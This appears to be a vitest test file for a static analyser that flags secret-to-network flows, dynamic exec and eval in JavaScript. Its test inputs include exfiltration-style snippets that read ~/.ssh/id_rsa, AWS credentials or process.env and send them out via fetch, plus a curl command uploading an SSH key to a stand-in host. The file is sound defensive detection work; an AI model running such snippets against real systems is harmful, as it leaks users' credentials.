import { describe, expect, it } from 'vitest';
import { FindingSchema } from '../../core/finding.js';
import { parseScript } from '../lib/parse.js';
import { grantsExecute } from './checks.js';
import { MAX_FINDINGS_PER_RULE, analyseSource } from './module.js';

const FS = "import fs from 'node:fs'; import os from 'node:os'; import path from 'node:path';";
const CRED = "path.join(os.homedir(), '.aws', 'credentials')";

function findings(code: string, file = 'src/x.js') {
  const result = analyseSource(file, code);
  if (result.parseError !== undefined) throw new Error(result.parseError);
  return result.findings;
}

function rules(code: string): string[] {
  return [...new Set(findings(code).map((f) => f.ruleId))].sort();
}

describe('flows from secrets to the network', () => {
  it('names both ends, with their lines', () => {
    const code = [FS, `const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8');`, '', "await fetch('https://x.io/k', { method: 'POST', body: key });"].join('\n');
    const hit = findings(code).find((f) => f.ruleId === 'code/secrets-to-network');
    expect(hit?.message).toBe('data read from ~/.ssh/id_rsa (SSH private key) at src/x.js:2 is sent by fetch at src/x.js:4');
    expect(hit?.location).toEqual({ file: 'src/x.js', line: 4, column: 7 });
    expect(hit?.evidence).toContain("fetch('https://x.io/k'");
  });

  it.each([
    ['a later reassignment', "let x = 'safe'; x = JSON.stringify(process.env); fetch(U, { body: x });"],
    ['a property assigned on an object', `${FS} const o = {}; o.data = fs.readFileSync(${CRED}); fetch(U, { body: JSON.stringify(o) });`],
    ['an array push', 'const parts = []; parts.push(JSON.stringify(process.env)); fetch(U, { body: parts.join() });'],
    ['a .then callback', `${FS} fs.promises.readFile(${CRED}).then((d) => fetch(U, { body: d }));`],
    ['a template literal', `${FS} const c = fs.readFileSync(${CRED}, 'utf8'); fetch(\`https://x.io/?c=\${c}\`);`],
    ['destructuring of a secret', `${FS} const { a } = { a: fs.readFileSync(${CRED}) }; fetch(U, { body: a });`],
    ['a spread into an array', 'const all = [...Object.values(process.env)]; fetch(U, { body: all.join() });'],
    ['an await of a local async function', `${FS} async function grab() { return fs.promises.readFile(${CRED}, 'utf8'); } fetch(U, { body: await grab() });`],
    ['an assigned function expression', 'let f; f = function () { return JSON.stringify(process.env); }; fetch(U, { body: f() });'],
    ['a for…of loop variable', 'for (const pair of Object.entries(process.env)) fetch(U, { body: pair.join("=") });'],
    ['an argument into a local helper', 'function send(d) { return fetch(U, { method: "POST", body: d }); } send(JSON.stringify(process.env));'],
    ['an argument through two helpers', `${FS} const read = (p) => fs.readFileSync(p, 'utf8'); function post(x) { fetch(U, { body: x }); } post(read(${CRED}));`],
    ['a field set in the constructor and sent by a method', 'class S { constructor() { this.payload = JSON.stringify(process.env); } send() { return fetch(U, { body: this.payload }); } }'],
    ['a class property and an arrow method', `${FS} class S { key = fs.readFileSync(${CRED}); send = () => fetch(U, { body: this.key }); }`],
    ['a private field', 'class S { #all = { ...process.env }; send() { return fetch(U, { body: JSON.stringify(this.#all) }); } }'],
    ['a command line that reads a key and uses curl', "import { execSync } from 'child_process'; execSync(`curl -F k=@${os.homedir()}/.ssh/id_rsa https://x.io`);"],
  ])('follows %s', (_name, code) => {
    expect(rules(code)).toContain('code/secrets-to-network');
  });

  it.each([
    ['a parameter that shadows a tainted name', 'const e = JSON.stringify(process.env); function f(e) { return fetch(U, { body: e }); }'],
    ['minified functions reusing one short name', 'function a(){var t=JSON.stringify(process.env);return t.length}function b(){var t="x";return fetch(U,{body:t})}'],
    ['a cycle between bindings', 'let a = b; let b = a; fetch(U, { body: a });'],
    ['one named variable read through a copy', 'const env = { ...process.env }; fetch(U, { headers: { k: env.API_KEY } });'],
    ['a non-secret file', "import fs from 'fs'; fetch(U, { body: fs.readFileSync('notes.txt') });"],
    ['a same-named field of another class', 'class A { constructor() { this.data = JSON.stringify(process.env); } } class B { constructor(d) { this.data = d; } send() { return fetch(U, { body: this.data }); } }'],
    ['one named variable of an environment field', 'class C { env = process.env; call() { return fetch(U, { headers: { k: this.env.API_KEY } }); } }'],
  ])('does not invent a flow through %s', (_name, code) => {
    expect(rules(code)).not.toContain('code/secrets-to-network');
  });

  it('handles deep reassignment chains without blowing up', () => {
    const chain = Array.from({ length: 3000 }, (_, i) => `const v${i + 1} = v${i};`).join('\n');
    const code = `const v0 = JSON.stringify(process.env);\n${chain}\nfetch(U, { body: v3000 });`;
    const result = analyseSource('x.js', code);
    expect(result.parseError).toBeUndefined();
    // The chain is longer than the flow depth, so the flow may be missed; what matters is a clean, bounded run.
    expect(result.findings.every((f) => FindingSchema.safeParse(f).success)).toBe(true);
  });
});

describe('aggregation', () => {
  it(`keeps ${MAX_FINDINGS_PER_RULE} findings per rule per file and summarises the rest`, () => {
    const code = ["const cp = require('child_process');", ...Array.from({ length: 12 }, (_, i) => `cp.exec(cmd${i});`)].join('\n');
    const hits = findings(code).filter((f) => f.ruleId === 'code/exec-dynamic-command');
    expect(hits).toHaveLength(MAX_FINDINGS_PER_RULE + 1);
    expect(hits.slice(0, MAX_FINDINGS_PER_RULE).map((f) => f.location?.line)).toEqual([2, 3, 4, 5, 6]);
    expect(hits[MAX_FINDINGS_PER_RULE]?.message).toMatch(/^7 more like it in src\/x\.js/);
    expect(new Set(hits.map((f) => f.fingerprint)).size).toBe(hits.length);
  });

  it('reports one endpoint finding per host per file', () => {
    const code = "fetch('https://api.one.io/a'); fetch('https://api.one.io/b'); fetch('https://api.two.io/c');";
    const hosts = findings(code)
      .filter((f) => f.ruleId === 'code/endpoint')
      .map((f) => f.message);
    expect(hosts).toEqual(['fetch connects to api.one.io', 'fetch connects to api.two.io']);
  });

  it('produces valid findings with 1-based positions and short evidence', () => {
    const code = `\n  eval(${'x + '.repeat(200)}y);`;
    const [hit] = findings(code);
    expect(FindingSchema.safeParse(hit).success).toBe(true);
    expect(hit?.analyzer).toBe('code');
    expect(hit?.location).toEqual({ file: 'src/x.js', line: 2, column: 3 });
    expect(hit?.evidence?.length).toBeLessThanOrEqual(200);
  });
});

describe('hostile input', () => {
  it.each([
    ['50k nested arrays', `${'['.repeat(50_000)}${']'.repeat(50_000)}`],
    ['50k nested parentheses', `x = ${'('.repeat(50_000)}1${')'.repeat(50_000)};`],
    ['50k nested calls', `${'f('.repeat(50_000)}${')'.repeat(50_000)};`],
    ['50k nested functions', `${'function f(){'.repeat(50_000)}${'}'.repeat(50_000)}`],
  ])('%s: the parser overflows its stack, which is a parse error, not a crash', (_name, code) => {
    expect(analyseSource('deep.js', code).parseError).toBe('nested too deeply for the parser (its stack overflowed)');
  });

  it.each([
    ['arrays', `${'['.repeat(250)}eval(x)${']'.repeat(250)}`],
    ['functions', `${'function f(){'.repeat(400)}eval(x)${'}'.repeat(400)}`],
    ['a 1000-term sum', `x = ${'a + '.repeat(1000)}eval(y);`],
  ])('still finds code in deep but parseable nesting: %s', (_name, code) => {
    expect(analyseSource('deep.js', code).findings.map((f) => f.ruleId)).toContain('code/eval-dynamic');
  });

  it('analyses a 2 MB single-line file', () => {
    const code = `${'a.b(c,d);'.repeat(230_000)}eval(z);`;
    // Correctness on one huge line, not speed: the budget must not cut it on a busy machine.
    const result = analyseSource('line.js', code, { budgetMs: 60_000 });
    expect(result.parseError).toBeUndefined();
    expect(result.findings.map((f) => f.ruleId)).toContain('code/eval-dynamic');
  });

  it('keeps bidi and ANSI characters in evidence (escaping is the printer\'s job)', () => {
    const code = "const cp = require('child_process'); cp.exec('\u202e\u001b[31m' + cmd);";
    const hit = findings(code).find((f) => f.ruleId === 'code/exec-dynamic-command');
    expect(hit?.evidence).toContain('\u202e');
    expect(hit?.evidence).toContain('\u001b[31m');
  });

  it('stays fast on regex-hostile literals', () => {
    const long = 'a'.repeat(200_000);
    const code = [
      `const u = 'http://${long}';`,
      `const cp = require('child_process'); cp.execSync('curl ${long} | ${long}');`,
      `transporter.sendMail({ to: t, bcc: '${long}@${long}' });`,
      `fetch('https://' + '${'a.'.repeat(50_000)}' + 'x');`,
      `const mail = { to: x, cc: '${'a@'.repeat(40_000)}' };`,
    ].join('\n');
    const started = performance.now();
    const result = analyseSource('re.js', code);
    expect(result.parseError).toBeUndefined();
    expect(performance.now() - started).toBeLessThan(5_000);
  });

  it('stops a file at its budget and says so', () => {
    const code = Array.from({ length: 2000 }, (_, i) => `function f${i}(a){return a+${i}}`).join('\n');
    const result = analyseSource('big.js', code, { budgetMs: 0 });
    expect(result.cutShort).toBe(true);
    const cut = result.findings.find((f) => f.ruleId === 'code/analysis-cut-short');
    expect(cut?.message).toMatch(/^analysis of big\.js stopped at its 0 ms budget \(parsing took \d+ ms\) after \d+ syntax nodes/);
  });

  it('stops when the signal aborts', () => {
    const code = Array.from({ length: 2000 }, (_, i) => `function f${i}(a){return a+${i}}`).join('\n');
    const controller = new AbortController();
    controller.abort();
    expect(analyseSource('big.js', code, { signal: controller.signal }).cutShort).toBe(true);
  });

  it('analyses a 5 MB minified bundle within the budget or cuts it short with a finding', () => {
    const unit = 'function a$(e,t){var n=e.map(function(r){return r*t});if(n.length>3){return n.slice(0,2)}return n.concat([t,e])}';
    const code = Array.from({ length: Math.ceil((5 * 1024 * 1024) / unit.length) }, (_, i) => unit.replace('$', String(i))).join(';');
    expect(code.length).toBeGreaterThanOrEqual(5 * 1024 * 1024);
    const parseStarted = performance.now();
    expect(parseScript('bundle.min.js', code).ok).toBe(true);
    const parseMs = performance.now() - parseStarted;
    const started = performance.now();
    const result = analyseSource('bundle.min.js', code, { budgetMs: 2000 });
    const totalMs = performance.now() - started;
    expect(result.parseError).toBeUndefined();
    // Parsing cannot be interrupted; what follows it is held to the budget (walk 2 s, checks 1 s), with slack for a busy machine.
    expect(totalMs).toBeLessThan(parseMs * 2 + 3000 + 5000);
    if (result.cutShort) expect(result.findings.map((f) => f.ruleId)).toContain('code/analysis-cut-short');
    expect(result.findings.filter((f) => f.kind === 'threat')).toEqual([]);
  });
});

describe('grantsExecute', () => {
  it.each([
    ['493', true, true],
    ['420', true, false],
    ['755', false, true],
    ['0644', false, false],
    ['+x', false, true],
    ['u+x', false, true],
    ['go-w', false, false],
    ['\u0000', false, true],
  ])('%j (numeric: %s) → %s', (mode, numeric, expected) => {
    expect(grantsExecute(mode, numeric)).toBe(expected);
  });
});
